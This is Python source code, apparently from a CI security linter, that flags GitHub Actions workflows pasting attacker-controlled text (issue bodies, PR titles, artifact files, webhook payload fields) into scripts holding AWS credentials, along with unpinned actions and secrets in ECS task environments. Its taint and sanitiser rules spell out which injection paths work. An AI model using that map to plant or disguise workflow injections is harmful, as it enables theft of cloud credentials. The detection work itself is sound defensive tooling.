    """The second arguments of the calls `call_re` finds with first argument `name`."""
    out = []
    for m in call_re.finditer(script):
        if m.group(2) == name:
            call = script[m.start() + m.group(0).index("("):]
            end = wm.closing_paren(call)
            out.append(call[call.index(",") + 1:end if end > 0 else None])
    return out


def _js_tainted(script: str, values) -> Optional[str]:
    """The attacker field (`context.payload.issue.body`) one of `values`
    carries: a property path ending at a title, body, head ref or label,
    commit message or author, alone, concatenated or in a template literal,
    or a variable or function of the script derived from one (`const tag =
    field('Tag')` where `field` matches in `body`), unless a number or a truth
    value is made of it (`parseInt(...)`, `.length`, `.includes(...)`) or it
    is kept to the script's literals (`_js_no_text`). Each value a value may
    give counts (`_js_branches`: `pr ? pr.title : ''`)."""
    derived = _js_derived(script)
    for v in values:
        if _js_kept_to_literals(v.strip(), script):
            continue
        for branch in _js_branches(v[:_JS_MAX]):  # any value it may give
            if _js_no_text(branch, script):
                continue
            for part in _JS_PART.finditer(branch):
                piece = (part.group(1) if part.group(1) is not None else part.group(0)).strip()
                if _JS_ATTACKER_FIELD.fullmatch(piece):
                    return piece
            for word in _JS_WORD.findall(branch):
                if word in derived:
                    return derived[word]
    return None


def _js_branches(value: str, depth: int = 0) -> List[str]:
    """The values a JavaScript expression may give: the branches of `c ? a :
    b` (not its condition) and the operands of `a || b`, `a ?? b` and `a &&
    b`, each followed down (`pr ? pr.title : ''` gives `pr.title` and `''`)."""
    value = value.strip()
    top = _js_top_level(value)
    while value.startswith("(") and value.endswith(")") and not top and depth < 10:
        value, depth = value[1:-1].strip(), depth + 1
        top = _js_top_level(value)
    if depth >= 10 or not top:
        return [value]
    asks = [i for i in top if value[i] == "?" and value[i + 1:i + 2] not in ("?", ".")
            and value[i - 1:i] != "?"]  # (not `a ?? b`, `a?.b`)
    at_top, ask_at = set(top), set(asks)
    if asks:
        nested, colon = 0, None
        for i in top:
            if i <= asks[0]:
                continue
            if i in ask_at:
                nested += 1
            elif value[i] == ":":
                if not nested:
                    colon = i
                    break
                nested -= 1
        if colon is not None:
            return _js_branches(value[asks[0] + 1:colon], depth + 1) \
                + _js_branches(value[colon + 1:], depth + 1)
    cuts = [i for i in top if value[i:i + 2] in ("||", "??", "&&") and i + 1 in at_top]
    if not cuts:
        return [value]
    out, start = [], 0
    for i in cuts + [len(value)]:
        if i > start:
            out += _js_branches(value[start:i], depth + 1)
        start = i + 2
    return out[:50]


def _js_top_level(value: str) -> List[int]:
    """The indexes of a JavaScript expression's characters outside strings,
    template literals and brackets."""
    out, nesting, quote, i = [], 0, None, 0
    while i < min(len(value), _JS_MAX):
        ch = value[i]
        if quote:
            if ch == "\\":
                i += 1
            elif ch == quote:
                quote = None
        elif ch in "'\"`":
            quote = ch
        elif ch in "([{":
            nesting += 1
        elif ch in ")]}":
            nesting -= 1
        elif nesting == 0:
            out.append(i)
        i += 1
    return out


def _js_derived(script: str) -> Dict[str, str]:
    """{variable or function name: the attacker field it is derived from} of
    a script's declarations (`const X = ...`, `function f(...) {...}`, `const
    f = (...) => {...}`), followed through each other (a few rounds)."""
    decls = []  # (name, the text of its value or body, a function?)
    for m in _JS_DECLARATION.finditer(script[:_JS_MAX]):
        if len(decls) >= 200:
            break
        rest = script[m.end():m.end() + 5000]
        head = rest[:200]
        function = m.group(1) == "function" or bool(_JS_FUNCTION_VALUE.match(head))
        if function:
            brace = rest.find("{")
            close = _closing_brace(rest[brace:]) if brace >= 0 else -1
            text = rest[brace:brace + close + 1] if close > 0 else rest[:400]
        else:
            stop = re.search(r";|\n", rest)
            text = rest[:stop.start()] if stop else rest
        decls.append((m.group(2), text, function))
    out: Dict[str, str] = {}
    for _ in range(4):
        grew = False
        for name, text, function in decls:
            if name in out or (not function and _js_no_text(text, script)):
                continue
            field = next((f.group(0) for f in _JS_ATTACKER_FIELD.finditer(text)), None) \
                or next((out[w] for w in _JS_WORD.findall(text) if w in out), None)
            if field:
                out[name], grew = field, True
        if not grew:
            break
    return out


_JS_MAX = 50_000  # characters of a script read for its declarations


def _closing_brace(s: str) -> int:
    """Index of the `}` that closes the `{` at 0 (-1 if none); braces inside
    quotes and template literals are counted too (close enough to find a
    function's end)."""
    depth = 0
    for i, c in enumerate(s):
        if c == "{":
            depth += 1
        elif c == "}":
            depth -= 1
            if depth == 0:
                return i
    return -1


_JS_FUNCTION_VALUE = lazy_re(r"\s*(?:async\s*)?(?:function\b|\([^)]*\)\s*=>|[A-Za-z_$][\w$]*\s*=>)")
_EXPORT_VARIABLE_JS = lazy_re(
    r"\bcore\s*\.\s*exportVariable\s*\(\s*(['\"`])([A-Za-z_][A-Za-z0-9_]*)\1\s*,")
_JS_DECLARATION = lazy_re(r"\b(const|let|var|function)\s+([A-Za-z_$][\w$]*)\s*=?")
_JS_WORD = lazy_re(r"(?<![\w$.])[A-Za-z_$][\w$]*")
# what makes a number or a truth value of text
_JS_NO_TEXT = lazy_re(r"^\s*(?:parseInt|parseFloat|Number|Math\.\w+|Boolean|!)\s*\(|"
                      r"\.length\s*$|\.(?:includes|startsWith|endsWith|test)\s*\([^)]*\)\s*$|"
                      r"===|!==|==|!=")


# a value kept to a list of literals: `['small', 'large'].includes(x) ? x : 'small'`
# (x a variable or a property path, `pr.title`),
# or a list the script names (`SIZES.includes(x) ? x : 'small'`, `_js_literal_list`)
_JS_LITERAL = r"""(?:'[^'\\\n]*'|"[^"\\\n]*")"""
_JS_LITERALS = rf"\[\s*{_JS_LITERAL}(?:\s*,\s*{_JS_LITERAL}){{0,50}}\s*,?\s*\]"
_JS_ALLOWLISTED = lazy_re(
    rf"^\s*({_JS_LITERALS}|[A-Za-z_$][\w$]*)\s*\.includes\("
    rf"\s*([A-Za-z_$][\w$]*(?:\??\.[A-Za-z_$][\w$]*){{0,10}})\s*\)"
    rf"\s*\?\s*\2\s*:\s*{_JS_LITERAL}\s*$")


def _js_no_text(value: str, script: str = "") -> bool:
    """Does a JavaScript value of `script` hold no attacker text: a number or
    a truth value made of it, or one of the script's own literals
    (`_js_kept_to_literals`)?"""
    return bool(_JS_NO_TEXT.search(value)) or _js_kept_to_literals(value, script)


def _js_kept_to_literals(value: str, script: str = "") -> bool:
    """Is a JavaScript value of `script` one of the script's own literals
    (`_JS_ALLOWLISTED`)?"""
    m = _JS_ALLOWLISTED.match(value)
    return m is not None and (m.group(1).startswith("[") or _js_literal_list(script, m.group(1)))


def _js_literal_list(script: str, name: str) -> bool:
    """Is `name` a list of literals the script declares once (`const SIZES =
    ['small', 'large']`, or `let`/`var`) and never assigns or changes
    (`SIZES = ...`, `SIZES[0] = ...`, `SIZES.push(...)`)?"""
    script = script[:_JS_MAX]
    n = re.escape(name)
    declared = re.findall(rf"\b(?:const|let|var)\s+{n}\s*=\s*({_JS_LITERALS}|)", script)
    changed = re.findall(rf"(?<![\w$.]){n}\s*(?:\[[^\]]*\]\s*)?(?:[-+*/%&|^]|\?\?|<<|>>>?)?"
                         rf"=(?![=>])|(?<![\w$.]){n}\s*\.\s*(?:push|unshift|splice|fill|"
                         rf"copyWithin)\s*\(", script)
    return len(declared) == 1 and declared[0] != "" and len(changed) == 1


_STRING = lazy_re(r"'(?:[^']|'')*'")


def _literals_only(expr: str) -> bool:
    """Is the expression's value one of its literals or a falsy value,
    whatever text it reads (`startsWith(MSG, 'hotfix') && 'fast' || 'canary'`)?
    `a && 'x'` is a falsy `a` or 'x'; `a || b` is a truthy `a`, else b: each
    alternative must end in a literal (or be true or false)."""
    bare = _STRING.sub("''", expr)
    for alt in wm.split_top(bare, "||"):
        last = wm.strip_parens(wm.split_top(wm.strip_parens(alt), "&&")[-1])
        if not (last == "''" or _LITERAL.fullmatch(last) or _boolean(last)):
            return False
    return True


_LITERAL = lazy_re(r"-?\d+(?:\.\d+)?|true|false|null")


def _boolean(expr: str) -> bool:
    """Is the expression's value true or false (a contains/startsWith/endsWith
    call, a comparison, a negation), whatever text it reads?"""
    bare = _STRING.sub("''", expr)  # operators inside string literals do not count
    if _BOOLEAN_CALL.match(bare):
        call = bare[bare.index("("):]
        return wm.closing_paren(call) == len(call) - 1  # the call is the whole expression
    if len(wm.split_top(bare, "||")) > 1 or len(wm.split_top(bare, "&&")) > 1:
        return False  # `a || b` is a or b itself, not a boolean
    return bare.startswith("!") or any(op in bare for op in ("==", "!=", "<", ">"))


@check(kinds=("workflow",), rules=(TEMPLATE_INJECTION.id,))
def template_injection(doc, ctx):
    wf = _workflow(doc)
    taint = None
    for job in _live_jobs(wf):
        if not job.role_uses():
            continue
        if taint is None:
            taint = _Taint(_tainted_inputs(doc, wf, ctx), ctx=ctx)
        taint.artifacts[job.id] = _pull_request_artifacts(wf, job, ctx)
        for st in map(_script_step, job.steps):
            if not isinstance(st.run, str) or "${{" not in st.run:
                continue
            for n, (what, source, by), written in _injections(st, job, taint):
                via = f" (set from `{source}`{f' by {by}' if by else ''})" \
                    if what != source else ""
                yield Problem(TEMPLATE_INJECTION.id, st.run_path,
                              f"`${{{{ {what} }}}}`{via} is pasted into the script of a job that "
                              "assumes an AWS role: whoever writes that text can run commands "
                              "with its credentials",
                              help=(f"read it as \"${what[4:]}\" in the script (the shell then "
                                    "expands it as data)" if what.startswith("env.") and via else
                                    f"pass it through `env:` (e.g. `VALUE: ${{{{ {what} }}}}`) "
                                    "and use \"$VALUE\" in the script"),
                              span=wm.composite_script_span(st, written, n)
                              or wm.script_span(doc, st, n, written))


def _injections(st, job, taint):
    """[(script line, `_injected` answer, the expression as written)] of the
    first expression on each line of a script that pastes attacker text (an
    expression may span lines: it counts on the line where it starts)."""
    out, lines = [], set()
    for m in wm.EXPR.finditer(st.run):
        n = st.run.count("\n", 0, m.start())
        if n in lines:
            continue
        what = _injected(m.group(1), job, st, taint)
        if what:
            lines.add(n)
            out.append((n, what, m.group(0)))
    return out


@dataclasses.dataclass
class _Taint:
    """What carries attacker text besides the event's own contexts: the inputs
    of a reusable workflow that its callers fill with it (`_tainted_inputs`),
    and per job the folders it downloads a pull request run's artifacts into
    (`_pull_request_artifacts`)."""
    inputs: dict = dataclasses.field(default_factory=dict)
    artifacts: dict = dataclasses.field(default_factory=dict)  # job id -> [(step, folder)]
    ctx: object = None  # the check's context: local reusable workflows are read


_NO_TAINT = _Taint()


# --- artifacts of the run a workflow_run follows -------------------------------

_DOWNLOAD_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artifact")
_TRIGGERING_RUN = lazy_re(r"\$\{\{\s*github\.event\.workflow_run\.id\s*\}\}", re.I)
_OTHER_EVENT_ONLY = lazy_re(
    r"github\.event\.workflow_run\.event\s*==\s*['\"](?!pull_request['\"])[^'\"]*['\"]", re.I)
_FILE_READERS = {"cat": 0, "head": 0, "tail": 0, "jq": 1, "yq": 1, "sed": 1, "awk": 1,
                 "cut": 0, "xargs": 0}  # (how many words before the files: a filter, a script)


def _pull_request_artifacts(wf, job, ctx) -> List[tuple]:
    """[(index of the step, folder)] of the job's downloads (`download-artifact`
    with `run-id: ${{ github.event.workflow_run.id }}`) of the artifacts of the
    run its `workflow_run` follows, when that run may be a pull request's: it
    ran the pull request's own workflow files (a fork's too), so whatever it
    wrote is its author's text. Folder: relative to the workspace, "" the
    workspace itself."""
    out = []
    for i, st in enumerate(job.steps):
        if (st.uses or "").split("@")[0].lower() not in _DOWNLOAD_ACTIONS:
            continue
        run_id = st.input("run-id") or st.input("run_id")
        if isinstance(run_id, str) and _TRIGGERING_RUN.search(run_id):
            path = st.input("path")
            folder = os.path.normpath(path).strip("/") if isinstance(path, str) else ""
            out.append((i, "" if folder == "." else folder))
    # (the downloads first: the followed workflows are read only for a job that has some)
    if not out or "workflow_run" not in wm.job_events(wf, job) \
            or (isinstance(job.if_, str) and _OTHER_EVENT_ONLY.search(job.if_)) \
            or not _follows_pull_requests(wf, ctx):
        return []
    return out


def _follows_pull_requests(wf, ctx) -> bool:
    """May a run the workflow follows (`workflow_run`) be a pull request's? Yes
    unless every workflow it names is in the repository and none runs on
    `pull_request`."""
    found = _followed_workflows(wf, ctx)
    return found is None or any("pull_request" in (w.triggers or {}) for w in found.values())


def _artifact_read(text: str, job, step, taint) -> Optional[tuple]:
    """`_injected` of shell text that reads a file of such an artifact
    (`$(cat pr/branch)`, `$(<pr/branch)`, `$(jq -r .ref pr/meta.json)`), not
    cut down to characters the shell takes as data (`| tr -dc '0-9'`)."""
    folders = taint.artifacts.get(job.id) if job is not None and taint is not None else None
    if not folders or "$(" not in text:
        return None
    here = next((i for i, st in enumerate(job.steps) if st.path == step.path), len(job.steps))
    folders = [f for i, f in folders if i < here]
    for m in _COMMAND_SUBSTITUTION.finditer(text):
        inner = m.group(1)
        if _cut_to_data(inner):
            continue
        for path in _files_read(inner):
            if any(not f or path == f or path.startswith(f + "/") for f in folders):
                return path, path, "download-artifact from the pull request's run"
    return None


_EVENT_FILE = lazy_re(r"\bGITHUB_EVENT_PATH\b|\bgithub\.event_path\b", re.I)


def _event_file_read(text: str, job, step, taint, depth: int) -> Optional[tuple]:
    """`_injected` of shell text that prints a field of the webhook payload
    file (`$(jq -r '.comment.body' "$GITHUB_EVENT_PATH")`, `cat`, `yq`, a
    python or node program reading it): the same text as
    `github.event.comment.body`; not when counted, hashed or cut down to data
    (`| tr -dc '0-9'`)."""
    if not _EVENT_FILE.search(text) or ("$(" not in text and "`" not in text):
        return None
    cmds = shell.parse(text)
    for c in cmds:
        if not c.in_substitution or not _EVENT_FILE.search(
                " ".join(c.argv + [t for _, t in c.redirects]) + (c.heredoc or "")):
            continue
        piped = shell.pipeline_from(c, cmds)
        if _no_text_out(piped):
            continue
        reader = next((x for x in piped[1:] if _payload_reader(x)), c)
        for path in _payload_paths(reader)[:50]:
            got = _injected(f"toJSON(github.event{path.replace('.[', '[')})", job, step, taint,
                            depth)
            if got:
                return got[0], got[1], f"{reader.name or 'a redirect'} reading $GITHUB_EVENT_PATH"
    return None


_JQ_PATH = lazy_re(r"(?:\.[A-Za-z_]\w*|\.?\[\s*(?:\"[A-Za-z_]\w*\"|\d*)\s*\])+")
_JQ_NO_TEXT = lazy_re(r"^(?:length|utf8bytelength|tonumber|type|test|startswith|endswith|"
                      r"contains|has|any|all)\b")  # a number or a truth value of the text
_PROGRAM_PATH = lazy_re(r"(?:\.[A-Za-z_]\w*|\[\s*(?:'[A-Za-z_]\w*'|\"[A-Za-z_]\w*\")\s*\])+")


def _payload_reader(c) -> bool:
    """Does a command pick fields out of JSON: jq, yq, a python or node program?"""
    return c.name in ("jq", "yq") or os.path.basename(c.name).startswith(("python", "node"))


def _payload_paths(c) -> List[str]:
    """The paths of the payload a command prints: a jq or yq filter's
    (`_jq_paths`), those a python or node program looks up (`["comment"]["body"]`,
    `.comment.body`), the whole payload ("") for `cat`, `head`, `tail`, `<`."""
    if c.name in ("jq", "yq"):
        filt = shell.jq_filter_and_files(c.argv)[0]
        return _jq_paths(filt) if filt is not None else []
    if _payload_reader(c):
        program = (" ".join(c.argv[1:]) + (c.heredoc or ""))[:_JS_MAX]
        return [_BRACKET.sub(lambda m: "." + (m.group(1) or m.group(2) or ""), p)
                for p in _PROGRAM_PATH.findall(program)]
    return [""] if c.name in ("cat", "head", "tail", "") else []


def _jq_paths(filt: str) -> List[str]:
    """The paths of its input a jq filter prints: `.comment.body`, `.comment |
    .body` and `.issue | "\\(.title)"` print `.comment.body` and `.issue.title`;
    one that works on a path's text (`.comment.body | split(" ")`) prints that
    path's, one that makes a number or a truth value of it (`length`) none."""
    prefix = ""
    for stage in filt.split("|")[:20]:
        stage = stage.strip()
        if stage in ("", "."):
            continue
        if _JQ_PATH.fullmatch(stage):
            prefix += stage
            continue
        if _JQ_NO_TEXT.match(stage):
            return []
        return [prefix + p for p in _JQ_PATH.findall(stage)] or [prefix]
    return [prefix]


_COMMAND_SUBSTITUTION = lazy_re(r"\$\(([^()]*)\)")
def _cut_to_data(script: str) -> bool:
    """Does a short script (a command substitution) end in a pipeline that
    prints only characters the shell takes as data (`_data_only`: `cat f |
    tr -dc '0-9'`)?"""
    cmds = [c for c in shell.parse(script) if not c.in_substitution]
    return bool(cmds) and _data_only(_pipeline_into(cmds[-1], cmds))


def _data_only(piped) -> bool:
    """Does a pipeline print only letters, digits, `.`, `_` and `-`: is the
    last of its commands that may add other characters (`_filter_kind`) one
    that keeps only those (`tr -dc 'a-z0-9-'`, `sed -E 's/[^a-z0-9]+/-/g'`),
    and do those after it add none (`cut -c1-28`, `sed 's/^-*//'`)? Its
    output is then no shell code."""
    return _last_kind([_filter_kind(c) for c in piped]) == "data"


def _last_kind(kinds) -> Optional[str]:
    """What a chain of filters prints, from each one's kind (`_filter_kind`):
    the kind of the last one that is not "keeps"; "keeps" when all keep."""
    for kind in reversed(kinds):
        if kind != "keeps":
            return kind
    return "keeps"


def _filter_kind(c) -> Optional[str]:
    """What a command in a pipeline makes of what it reads: "data" when it
    prints only letters, digits, `.`, `_` and `-`; "keeps" when it adds no
    other characters (`cut`, `head`, `tail`, a `tr` or `sed` that deletes or
    writes only such characters); None when it may print anything."""
    if c.name in ("head", "tail") or c.name == "cut" and not any(
            a.startswith("--output-delimiter") for a in c.argv):
        return "keeps"
    if c.name == "tr":
        return _tr_kind(c.argv[1:8])
    if c.name == "sed":
        return _sed_kind(c.argv[1:20])
    return None


_TR_LONG = {"--delete": "d", "--complement": "c", "--squeeze-repeats": "s"}


def _tr_kind(args) -> Optional[str]:
    """`_filter_kind` of tr's arguments: `-dc SET` keeps SET's characters,
    `-c SET1 SET2` turns the others into SET2's, `SET1 SET2` turns SET1's into
    SET2's, `-d SET` deletes."""
    flags, sets = "", []
    for a in args:
        if a in _TR_LONG:
            flags += _TR_LONG[a]
        elif a.startswith("-") and len(a) > 1 and not sets:
            flags += a[1:]
        else:
            sets.append(a)
    if set(flags) - set("dcCs") or not sets or len(sets) > 2:
        return None
    complement = "c" in flags or "C" in flags
    if "d" in flags:
        if not complement:
            return "keeps"
        return "data" if _data_set(sets[0]) else None
    if len(sets) == 1:
        return "keeps" if "s" in flags else None
    if complement:
        return "data" if _data_set(sets[0]) and _data_set(sets[1]) else None
    return "keeps" if _data_set(sets[1]) else None


_DATA_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-")
_DATA_CLASS = lazy_re(r"\[:(?:alnum|alpha|digit|lower|upper|xdigit):\]")
_DATA_RANGES = ("az", "AZ", "09")


def _data_set(text: str) -> bool:
    """Does a tr set (or the inside of a regex bracket) name only letters,
    digits, `.`, `_` and `-`: `a-z0-9._-`, `[:alnum:]-`? (A range across
    kinds, `.-z`, holds other characters.)"""
    if not 0 < len(text) <= 200:
        return False
    i = 0
    while i < len(text):
        m = _DATA_CLASS.match(text, i)
        if m:
            i = m.end()
        elif i + 2 < len(text) and text[i + 1] == "-":
            if not any(lo <= text[i] <= text[i + 2] <= hi for lo, hi in _DATA_RANGES):
                return False
            i += 3
        elif text[i] in _DATA_CHARS:
            i += 1
        else:
            return False
    return True


_SED_FLAGS = {"n": False, "E": True, "r": True, "u": False, "z": False, "s": False}
_SED_LONG = {"--regexp-extended": True, "--quiet": False, "--silent": False}


def _sed_kind(args) -> Optional[str]:
    """`_filter_kind` of sed's arguments: that of its substitutions in order
    (`_sed_script_kinds`); None for a script of other commands, or a sed that
    reads files or edits them in place."""
    extended, scripts, files = False, [], []
    words = iter(args)
    for a in words:
        if a in ("-e", "--expression"):
            scripts.append(next(words, ""))
        elif a.startswith("--expression="):
            scripts.append(a.split("=", 1)[1])
        elif a in _SED_LONG:
            extended = extended or _SED_LONG[a]
        elif a.startswith("-") and len(a) > 1:
            letters = a[1:]
            if letters.endswith("e"):  # `-ne SCRIPT`
                letters = letters[:-1]
                scripts.append(next(words, ""))
            if any(x not in _SED_FLAGS for x in letters):
                return None  # -i (in place), -f (a script file), ...
            extended = extended or any(_SED_FLAGS[x] for x in letters)
        elif not scripts:
            scripts.append(a)
        else:
            files.append(a)
    kinds = []
    for script in scripts:
        got = _sed_script_kinds(script, extended)
        if got is None:
            return None
        kinds += got
    return None if files or not kinds else _last_kind(kinds)


_SED_ADDRESS = lazy_re(r"(?:\d+|\$|/(?:[^/\\\n]|\\.)*/)(?:\s*,\s*(?:\d+|\$|/(?:[^/\\\n]|\\.)*/))?"
                       r"\s*!?\s*")
_SED_SUBSTITUTION = lazy_re(r"s([^\\\n\s])((?:(?!\1)[^\\\n]|\\.)*)\1((?:(?!\1)[^\\\n]|\\.)*)"
                            r"\1([gpiI0-9]*)")
# `[^SET]` once or repeated, as the regex dialect writes it (`+` is a plain
# character in a basic one)
_SED_CUT_BASIC = lazy_re(r"\[\^((?:\[:[a-z]+:\]|[^\]])+)\](?:\*|\\\+|\\\{1,\\\})?")
_SED_CUT_EXTENDED = lazy_re(r"\[\^((?:\[:[a-z]+:\]|[^\]])+)\](?:\*|\+|\{1,\})?")
_SED_KEPT = lazy_re(r"(?:[A-Za-z0-9._-]|&|\\[0-9])*")  # data, the match, a group


def _sed_script_kinds(script: str, extended: bool) -> Optional[List[Optional[str]]]:
    """`_filter_kind` of each command of a sed script, or None when one is
    not a substitution: "data" for `s/[^SET]+/X/g` on every line, SET and X
    data characters; "keeps" for one that writes only data characters, the
    match (`&`) or a group (`\\1`)."""
    kinds, i = [], 0
    cut = _SED_CUT_EXTENDED if extended else _SED_CUT_BASIC
    while i < len(script) and len(kinds) < 50:
        if script[i] in " \t\n;":
            i += 1
            continue
        address = _SED_ADDRESS.match(script, i)
        at = address.end() if address else i
        m = _SED_SUBSTITUTION.match(script, at)
        if m is None or not (m.end() == len(script) or script[m.end()] in " \t\n;"):
            return None
        pattern, replacement, flags = m.group(2), m.group(3), m.group(4)
        whole = cut.fullmatch(pattern)
        if at == i and "g" in flags and whole and _data_set(whole.group(1)) \
                and all(x in _DATA_CHARS for x in replacement):
            kinds.append("data")
        elif _SED_KEPT.fullmatch(replacement):
            kinds.append("keeps")
        else:
            kinds.append(None)
        i = m.end()
    return kinds


def _files_read(script: str) -> List[str]:
    """The relative paths a short script (a command substitution) reads:
    `<FILE`, the file words of cat/head/tail/cut, jq/yq/sed/awk after their
    program."""
    script = script.strip()
    if script.startswith("<"):
        return [_workspace_path(script[1:].strip().strip("'\""))]
    out = []
    for c in shell.parse(script):
        skip = _FILE_READERS.get(c.name)
        if skip is None:
            continue
        words = [w for w in c.argv[1:] if not w.startswith("-")]
        out.extend(_workspace_path(w) for w in words[skip:])
    return [p for p in out if p]


def _workspace_path(word: str) -> Optional[str]:
    if not word or "$" in word or word.startswith(("/", "~")):
        return None
    path = os.path.normpath(word)
    return None if path.startswith("..") else path


def _tainted_inputs(doc, wf, ctx) -> dict:
    """{input name (lower case): (attacker text, caller)} of the `workflow_call`
    inputs of a reusable workflow that a calling job of the repository
    (`wm.calling_jobs`) fills with attacker text, e.g. `pr-title: ${{
    github.event.pull_request.title }}` gives {"pr-title":
    ("github.event.pull_request.title", ".github/workflows/pr.yml job
    'review-app'")}: the input pastes what the caller's expression gives."""
    if "workflow_call" not in wf.triggers or not doc.file:
        return {}
    out = {}
    for file, data, job_id, _ in wm.calling_jobs(doc.file, ctx.repo_root):
        caller = wm.read_workflow(data).jobs.get(job_id)
        for name, value in (caller.with_.items() if caller is not None else ()):
            got = _value_injected(value, caller, None, None, 1)
            if got and str(name).lower() not in out:
                out[str(name).lower()] = (got[1], f"{file} job '{job_id}'")
    return out


GITHUB_SCRIPT = "actions/github-script"


def _script_step(st):
    """The step itself, or for `actions/github-script` a copy whose "script" is
    its `script:` input: GitHub pastes expressions into that JavaScript the
    same way, and it runs in the job with the job's credentials."""
    if st.run is None and st.uses == GITHUB_SCRIPT and isinstance(st.input("script"), str):
        return dataclasses.replace(st, run=st.input("script"),
                                   run_path=st.path + ("with", "script"))
    return st


# --- pinning ---------------------------------------------------------------------------------

_FIRST_PARTY = ("actions/", "github/")


def _as_written(uses, data):
    """The action's OWNER/REPO[/PATH] as the file spells it (the model lowers it)."""
    raw = data.get("uses") if isinstance(data, dict) else None
    if isinstance(raw, str):
        written = raw.strip().rsplit("@", 1)[0]
        if written.lower() == uses:
            return written
    return uses


@check(kinds=("workflow",), rules=(ACTION_UNPINNED.id,))
def action_pinning(doc, ctx):
    wf = _workflow(doc)
    for job in wf.jobs.values():
        refs = [(job.uses, job.uses_ref, job.path + ("uses",), job.data, None)]
        refs += [(st.uses, st.uses_ref, st.path + ("uses",), st.data, st.via) for st in job.steps]
        for uses, ref, path, data, via in refs:
            if not uses or uses.startswith(("./", "docker://")) or uses.startswith(_FIRST_PARTY):
                continue
            if ref is not None and wm._SHA.match(ref.lower()):
                continue
            uses = _as_written(uses, data)
            shown = f"{uses}@{ref}" if ref else uses
            where = f" (in the action {via})" if via else ""
            yield Problem(ACTION_UNPINNED.id, path,
                          f"`{shown}`{where} is a moving reference: its owner can change the "
                          "code that runs in this job",
                          help="pin the full commit SHA and keep the tag as a comment: "
                               f"`{uses}@<40-hex sha> # {ref or 'tag'}`")


# ---------------------------------------------------------------------------
# secrets a render step writes into the task definition's plain environment

_ENV_LINE = re.compile(r"^\s*([A-Za-z_][A-Za-z0-9_]*)\s*=(.*)$")
_GITHUB_SECRET = re.compile(r"\$\{\{[^}]*\bsecrets\.")
# names of what teams keep in GitHub secrets though it is no secret (an ARN, an id)
_NOT_SECRET_NAME = re.compile(r"(?:_ARN|_ID|_REGION|_NAME|_ACCOUNT)$", re.I)


@check(kinds=("workflow",), rules=("taskdef-secret-in-environment",))
def render_secret_in_environment(doc, ctx):
    """`amazon-ecs-render-task-definition`'s `environment-variables` lines
    become plain `environment` entries of the task definition it renders: a
    GitHub secret there (or a value the task-definition rule counts as one) is
    then in clear text in every revision."""
    for job in _live_jobs(_workflow(doc)):
        for st in job.steps:
            text = st.with_.get("environment-variables") if st.uses == wm.ECS_RENDER else None
            for n, line in enumerate(text.splitlines() if isinstance(text, str) else ()):
                m = _ENV_LINE.match(line)
                what = _secret_entry(m.group(1), m.group(2).strip()) if m else None
                if what:
                    yield Problem("taskdef-secret-in-environment",
                                  wm.input_path(st, "environment-variables"),
                                  f"`environment-variables` puts {what} into {m.group(1)}, a "
                                  "plain `environment` entry of the task definition it renders: "
                                  "anyone who can describe the task definition reads it",
                                  help=_SECRET_ENTRY_HELP,
                                  span=_line_in_input(doc, st, "environment-variables", n))
            if not isinstance(st.run, str) or not ("--env" in st.run or "jq" in st.run):
                continue
            for c, name, value, how in _script_env_entries(st):
                what = _secret_entry(name, _env_expanded(value, job, st))
                if what:
                    yield Problem("taskdef-secret-in-environment", st.run_path,
                                  f"{how} puts {what} into {name}, a plain `environment` entry "
                                  "of the task definition it registers: anyone who can describe "
                                  "the task definition reads it", help=_SECRET_ENTRY_HELP,
                                  span=wm.script_span(doc, st, _line_of(st.run, c.line, name),
                                                      name))


def _line_of(script: str, start: int, needle: str) -> int:
    """The script line (0-based), from line `start` on, where `needle` is
    first written (a multi-line argument's), else `start`."""
    lines = script.split("\n")
    return next((n for n in range(start, len(lines)) if needle in lines[n]), start)


_SECRET_ENTRY_HELP = ("reference it under the task definition's `secrets` "
                      "(valueFrom: a Secrets Manager or SSM Parameter Store ARN)")


def _secret_entry(name: str, value: str) -> Optional[str]:
    """What secret a plain environment entry `name=value` a workflow writes
    holds: a GitHub secret, a value of a secret's shape, or a secret's name
    with a literal value; None when none."""
    from ecs_lint.rules.taskdef import _harmless_value, secret_name, secret_value

    if _GITHUB_SECRET.search(value) and not _NOT_SECRET_NAME.search(name):
        return "a GitHub secret"
    if secret_value(value, None, name):
        return secret_value(value, None, name)
    if secret_name(name) and "${{" not in value and "$" not in value \
            and not _harmless_value(value, name):
        return "a secret"
    return None


def _env_expanded(value: str, job, st) -> str:
    """A script word as the shell gives it: `$VAR` (or "${VAR}") read from the
    env blocks when it is that alone."""
    m = _SHELL_VAR.match(value.strip())
    got = wm._env_value(m.group(1), job, st) if m else None
    return got if isinstance(got, str) else value


# `{"name": "KEY", "value": $arg}` in a jq filter: an entry made of a `--arg`
_JQ_ENTRY = lazy_re(r"\{\s*\"?name\"?\s*:\s*\"([A-Za-z_][A-Za-z0-9_]*)\"\s*,\s*"
                    r"\"?value\"?\s*:\s*\$([A-Za-z_][A-Za-z0-9_]*)\s*\}")


def _script_env_entries(st):
    """[(command, name, value as written, how)] of the plain environment
    entries a step's script writes into a task definition: fabfuel's `ecs
    deploy ... --env CONTAINER NAME VALUE`, and a `jq --arg A VALUE` whose
    filter adds `{"name": NAME, "value": $A}` to an `environment`."""
    out = []
    for c in wm.commands(st):
        argv = c.argv
        if argv[:2] == ["ecs", "deploy"]:
            for i, a in enumerate(argv):
                if a in ("--env", "-e") and i + 3 < len(argv):
                    out.append((c, argv[i + 2], argv[i + 3], "`ecs deploy --env`"))
        elif argv[:1] == ["jq"]:
            args = {argv[i + 1]: argv[i + 2] for i, a in enumerate(argv[:-2])
                    if a == "--arg"}
            for word in argv[1:]:
                if "environment" not in word:
                    continue
                for m in _JQ_ENTRY.finditer(word):
                    if m.group(2) in args:
                        out.append((c, m.group(1), args[m.group(2)], "`jq --arg`"))
    return out


@check(kinds=("workflow",), rules=("taskdef-secrets-no-execution-role",))
def render_secrets_without_execution_role(doc, ctx):
    """`amazon-ecs-render-task-definition`'s `secrets` input adds `secrets` to
    the container of the task definition it renders: a file without an
    `executionRoleArn` then registers a task that cannot start (the file's
    own secrets are the task definition rule's)."""
    github = ctx.config.github
    for job in _live_jobs(_workflow(doc)):
        for st in job.steps:
            given = st.with_.get("secrets") if st.uses == wm.ECS_RENDER else None
            if not isinstance(given, str) or not given.strip():
                continue
            source = _render_source(job, st, github, ctx.repo_root or ".")
            if not isinstance(source, dict) or source.get("executionRoleArn") \
                    or _has_secrets(source):
                continue
